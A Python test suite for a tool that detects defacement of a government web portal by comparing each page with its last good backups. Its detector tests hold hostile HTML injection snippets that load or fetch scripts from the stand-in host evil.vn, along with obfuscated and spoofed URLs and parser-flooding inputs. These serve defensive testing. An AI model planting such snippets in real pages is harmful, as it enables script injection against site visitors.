"""A page against the last good backups: a living portal never jumps, a defaced one does."""

import time
from collections import defaultdict
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime
from functools import cache

import pytest

from ops.backups.pages.notes import Fetched, PageNote, learn, note_answer
from ops.backups.pages.page_text import find_traits, host_of, read_html
from ops.backups.pages.verdict import find_jumps
from tests.defacements import DEFACEMENTS, UNSEEN
from tests.moving_pages import CONTACT, HOME, NEWS, LivingPortal

AT = datetime(2027, 1, 1, tzinfo=UTC)
PAGES = (HOME, NEWS, CONTACT)
TWICE_A_DAY, DAYS, LEARNT_FROM = 2, 30, 3
Deface = Callable[[str], str]


def look(
    page: str, html: str, earlier: list[PageNote], address: str = "https://cong.example.vn"
) -> PageNote:
    answer = Fetched(
        address + page, status=200, content_type="text/html; charset=utf-8", body=html.encode()
    )
    noted = note_answer(page, answer, AT)
    return replace(noted, jumps=find_jumps(noted, earlier))


def same(html: str) -> str:
    return html


def back_up(
    portal: LivingPortal, page: str, day: float, earlier: list[PageNote], deface: Deface = same
) -> PageNote:
    return note(page, read_twice(portal, page, day), earlier, deface)


def read_twice(portal: LivingPortal, page: str, day: float) -> list[str]:
    """Read a page as a backup does: twice, a minute apart."""
    return [portal.visit(page, day + later) for later in (0.1, 0.1007)]


def note(
    page: str, readings: list[str], earlier: list[PageNote], deface: Deface = same
) -> PageNote:
    first, again = (look(page, deface(it), earlier) for it in readings)
    return learn(first, again, earlier)


def live(portal: LivingPortal, days: int = DAYS) -> Iterator[tuple[float, PageNote]]:
    """Yield what each backup of a month notes, with its day."""
    earlier: dict[str, list[PageNote]] = defaultdict(list)
    for number in range(days * TWICE_A_DAY):
        for page in PAGES:
            noted = back_up(portal, page, number / TWICE_A_DAY, earlier[page][:LEARNT_FROM])
            earlier[page].insert(0, noted)
            yield number / TWICE_A_DAY, noted


def learnt(portal: LivingPortal, page: str, day: float) -> list[PageNote]:
    """Give what three good backups before a day have noted."""
    earlier: list[PageNote] = []
    for ago in (1.5, 1.0, 0.5):
        earlier.insert(0, back_up(portal, page, day - ago, earlier))
    return earlier


@cache
def two_days(page: str) -> list[tuple[float, list[PageNote], list[str]]]:
    """A usual day and that of a great event: what was learnt before each, and its two readings."""
    portal = LivingPortal(1)
    return [(day, learnt(portal, page, day), read_twice(portal, page, day)) for day in (5.0, 11.5)]


SEEDS = [*range(4), *(pytest.param(it, marks=pytest.mark.soak) for it in range(4, 20))]


@pytest.mark.slow
@pytest.mark.parametrize("seed", SEEDS)
def test_a_month_of_a_living_portal_raises_no_warning(seed: int) -> None:
    jumped = [(day, it.page, it.jumps) for day, it in live(LivingPortal(seed)) if it.jumps]

    assert jumped == []


@pytest.mark.parametrize("name", DEFACEMENTS)
@pytest.mark.parametrize("page", PAGES)
def test_a_defaced_page_is_caught_on_a_usual_day_and_on_that_of_a_great_event(
    name: str, page: str
) -> None:
    for day, earlier, readings in two_days(page):
        assert note(page, readings, earlier, DEFACEMENTS[name]).jumps, day


@pytest.mark.parametrize("name", UNSEEN)
def test_what_reads_as_an_article_is_not_seen(name: str) -> None:
    _, earlier, readings = two_days(HOME)[0]

    assert note(HOME, readings, earlier, UNSEEN[name]).jumps == ()


def test_a_redesign_jumps_once_and_is_usual_when_it_is_among_the_learnt() -> None:
    def redesign(html: str) -> str:
        return (
            html.replace("<h1>Cổng thông tin điện tử tỉnh</h1>", "<h1>Cổng dịch vụ số</h1>")
            .replace("Cổng thông tin tỉnh</title>", "Cổng số của tỉnh mới</title>")
            .replace("thongke.example.com", "do-luong.example.com")
        )

    portal = LivingPortal(2)
    earlier = learnt(portal, HOME, 6.0)
    new = back_up(portal, HOME, 6.0, earlier, redesign)
    accepted = [new, *earlier[:2]]
    after = back_up(portal, HOME, 6.5, accepted, redesign)

    assert {it.measure for it in new.jumps} == {"title", "heading", "obeys"}
    assert after.jumps == ()


def test_a_first_backup_and_those_of_versions_without_traits_judge_no_more_than_they_know() -> None:
    portal = LivingPortal(3)
    earlier = learnt(portal, HOME, 4.0)
    old = [replace(it, obeys=(), leads=(), foreign=()) for it in earlier]
    script = DEFACEMENTS["a script from a new host"]

    assert back_up(portal, HOME, 4.0, earlier[:1], DEFACEMENTS["title alone"]).jumps == ()
    assert back_up(portal, HOME, 4.0, old, script).jumps == ()
    assert back_up(portal, HOME, 4.0, old, DEFACEMENTS["title alone"]).jumps != ()


def test_a_redirect_to_another_host_jumps_even_where_that_does_not_answer() -> None:
    portal = LivingPortal(4)
    earlier = learnt(portal, CONTACT, 4.0)
    gone = Fetched("https://win.example.top/", problem="unreachable")
    own = look(CONTACT, portal.visit(CONTACT, 4.0), earlier, "https://www.cong.example.vn")

    assert [it.measure for it in find_jumps(note_answer(CONTACT, gone, AT), earlier)] == ["obeys"]
    assert own.jumps == ()


def test_what_only_one_of_two_readings_shows_is_chance() -> None:
    portal = LivingPortal(5)
    earlier = learnt(portal, HOME, 4.0)
    bad, good = (
        look(HOME, deface(portal.visit(HOME, 4.0)), earlier)
        for deface in (DEFACEMENTS["an error that says it is well"], same)
    )

    assert bad.jumps != ()
    assert learn(bad, good, earlier).jumps == ()


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://A.example.vn:8443/x", "a.example.vn"),
        ("//cdn.example.top/a.js", "cdn.example.top"),
        ("\\\\cdn.example.top\\a.js", "cdn.example.top"),
        ("https://cong.example.vn@evil.example.top/", "evil.example.top"),
        ("/a.js", ""),
        ("javascript:alert(1)", ""),
        ("mailto:a@example.vn", ""),
    ],
)
def test_the_host_of_an_address(address: str, host: str) -> None:
    assert host_of(address) == host


@pytest.mark.parametrize(
    "source",
    [
        """<script data-x=">" src="//evil.vn/x.js"></script>""",
        """<iframe title='>' src=//evil.vn/>""",
        """<script src="ht&#10;tps://evil.vn/a.js"></script>""",
        """<script>location='//evil.vn/'</script>""",
        """<img src=x onerror="import('https://evil.vn/a.js')">""",
        """<svg/onload=fetch('//evil.vn/')>""",
    ],
)
def test_it_obeys_who_is_named_in_the_ways_that_browsers_follow(source: str) -> None:
    assert find_traits(source, "").obeys == ("evil.vn",)


@pytest.mark.parametrize(
    "source",
    ['<a "' * 500_000, "<a '\"" * 500_000, '<a "' + "'" * 2_000_000, '<a b=">" ' * 300_000],
)
def test_quotes_without_end_cost_no_more_than_the_page_is_long(source: str) -> None:
    begun = time.process_time()
    find_traits(source, "")
    read_html(source)

    assert time.process_time() - begun < 5


def test_what_a_page_obeys_leads_to_and_says_in_foreign_words() -> None:
    source = """<base href="https://b.example/"><!-- <script src="//no.example/"></script> -->
<meta http-equiv=refresh content="0;URL='//r.example/'">
<script>x="https:\\/\\/s.example\\/a";eval(y)</script><title><a href="https://no.example"></title>
<a href="https://l.example/1">1</a><A HREF='https://L.example/2'>2</A><a href="/own">3</a>
<noscript><a href=//h.example>4</a></noscript>"""
    traits = find_traits(source, "Ủy ban nhân dân xã, slot Casino thưởng 赌场 nghiêng quyển UBND")

    assert traits.obeys == ("b.example", "r.example", "s.example", "eval()")
    assert dict(traits.leads) == {"l.example": 2, "h.example": 1}
    assert traits.foreign == ("slot", "casino", "赌", "场", "ubnd")
